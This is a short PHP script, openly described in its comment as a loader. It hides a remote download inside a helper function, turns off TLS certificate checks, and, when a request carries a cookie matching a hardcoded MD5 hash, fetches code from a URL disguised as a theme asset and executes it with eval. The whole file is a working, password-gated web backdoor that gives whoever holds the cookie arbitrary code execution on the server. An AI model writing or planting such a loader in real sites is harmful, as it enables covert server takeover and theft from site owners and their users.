<?php
// a loader that hides its download in a helper and runs what it returns in place: no
// variable ever holds the fetched code
function pull($where)
{
    if (function_exists('curl_init')) {
        $h = curl_init($where);
        curl_setopt($h, CURLOPT_RETURNTRANSFER, true);
        curl_setopt($h, CURLOPT_SSL_VERIFYPEER, false);
        $got = curl_exec($h);
        curl_close($h);
        return $got;
    }
    return @file_get_contents($where);
}

if (isset($_COOKIE['sid']) && md5($_COOKIE['sid']) === '0cc175b9c0f1b6a831c399e269772661') {
    eval('?>' . pull('https://cdn.example.net/assets/theme.txt'));
}
